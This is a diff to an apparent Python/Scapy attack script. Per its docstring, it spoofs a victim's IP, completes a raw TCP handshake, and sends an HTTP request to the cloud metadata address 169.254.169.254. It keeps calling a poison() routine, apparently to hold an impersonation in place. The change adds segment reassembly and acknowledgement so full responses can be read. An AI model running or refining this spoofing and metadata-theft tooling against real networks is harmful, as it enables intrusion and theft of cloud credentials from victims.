@@ -10,6 +10,7 @@ Then it completes a TCP handshake with raw packets carrying the victim's IP and 
 server's answer, or NO-ANSWER. Bounded: about 15 seconds at most.
 """
 import random
+import re
 import sys
 import threading
 import time
@@ -86,8 +87,38 @@ ack = synack[TCP].seq + 1
 request = ("GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n" % path).encode()
 send(TCP(sport=sport, dport=port, flags="A", seq=seq + 1, ack=ack))
 send(TCP(sport=sport, dport=port, flags="PA", seq=seq + 1, ack=ack), request)
-wait_for(lambda p: Raw in p, 3)
+
+
+def complete(data):
+    head, sep, rest = data.partition(b"\r\n\r\n")
+    if not sep:
+        return False
+    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
+    return length is None or len(rest) >= int(length.group(1))
+
+
+# The answer may come in several segments: a server that writes its headers and its body apart
+# (the JDK's HttpServer) sends the body only once the headers are acknowledged (Nagle), so every
+# segment is acknowledged as it comes, and the answer is read until it is complete, or 3 s.
+segments = {}
+body = b""
+acked = ack
+end = time.time() + 3
+while time.time() < end:
+    for p in list(seen):
+        if Raw in p:
+            segments.setdefault(p[TCP].seq, bytes(p[Raw].load))
+    body, following = b"", ack
+    while following in segments:
+        body += segments[following]
+        following += len(segments[following])
+    if following != acked:
+        send(TCP(sport=sport, dport=port, flags="A", seq=seq + 1 + len(request), ack=following))
+        acked = following
+    if complete(body):
+        break
+    time.sleep(0.05)
+    poison()
 sniffer.stop()
-body = b"".join(bytes(p[Raw].load) for p in seen if Raw in p)
 send(TCP(sport=sport, dport=port, flags="R", seq=seq + 1 + len(request)))
 print(body.decode("latin-1") if body else "NO-ANSWER")
